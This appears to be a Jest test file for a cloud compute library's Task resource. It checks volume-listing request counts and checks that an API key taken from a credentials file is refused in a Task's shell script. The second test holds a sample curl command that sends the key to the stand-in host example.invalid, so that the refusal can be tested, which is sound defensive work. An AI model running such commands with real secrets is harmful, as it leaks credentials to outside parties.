// Task's program-side checks against the emulator: existing volumes are looked up with one
// listing per program run, and the API key is refused in a script wherever it is configured.
import { promises as fs } from "node:fs";
import * as path from "node:path";
import { Task } from "../../../src/resources/task";
import { fcpStack, requestCount, type FcpStack } from "../../fixtures/resources/fcp-stack";
import { expectDeploymentFailure as failure } from "../../fixtures/expect-failure";

jest.setTimeout(180_000);

let s: FcpStack;
beforeAll(async () => {
  s = await fcpStack();
});
afterAll(() => s?.close());

test("two Tasks mounting two existing volumes list the project's volumes once per preview", async () => {
  const a = await s.client.createVolume({ name: "shared-a", sizeGb: 10, interface: "file" });
  const b = await s.client.createVolume({ name: "shared-b", sizeGb: 10, interface: "file" });
  const program = async () => {
    for (const name of ["t1", "t2"]) {
      new Task(name, {
        instanceType: "a100", maxPricePerHour: 5, maxRunTimeHours: 1, shell: "true", uploadCode: false,
        volumes: [{ volumeId: a.fid, mountPath: "/a" }, { volumeId: b.fid, mountPath: "/b" }],
      });
    }
    return {};
  };
  s.emulator.admin.clearRequests();
  await s.engine.preview(program);
  expect(requestCount(s.emulator, "GET /v2/volumes")).toBe(1);
  // The next run lists again: a volume made in between is found.
  const c = await s.client.createVolume({ name: "shared-c", sizeGb: 10, interface: "file" });
  s.emulator.admin.clearRequests();
  await s.engine.preview(async () => {
    new Task("t3", { instanceType: "a100", maxPricePerHour: 5, maxRunTimeHours: 1, shell: "true", uploadCode: false, volumes: [{ volumeId: c.fid, mountPath: "/c" }] });
    return {};
  });
  expect(requestCount(s.emulator, "GET /v2/volumes")).toBe(1);
});

test("a key configured only in ~/.flow/credentials.fcp is refused in a Task's env", async () => {
  const home = path.join(s.dir, "program-home");
  await fs.mkdir(path.join(home, ".flow"), { recursive: true });
  const secret = "fcp-credentials-file-key-4242";
  await fs.writeFile(path.join(home, ".flow", "credentials.fcp"), `api_key = ${secret}\n`, { mode: 0o600 });
  const before = process.env.HOME;
  process.env.HOME = home;
  try {
    const err = await failure(s.engine.preview(async () => {
      new Task("leaky", { instanceType: "a100", maxPricePerHour: 5, maxRunTimeHours: 1, uploadCode: false, shell: `curl -H "x: ${secret}" example.invalid` });
      return {};
    }));
    expect(err.message).toMatch(/secret value \(such as the FCP API key\)/);
    expect(err.message).not.toContain(secret);
  } finally {
    process.env.HOME = before;
  }
});
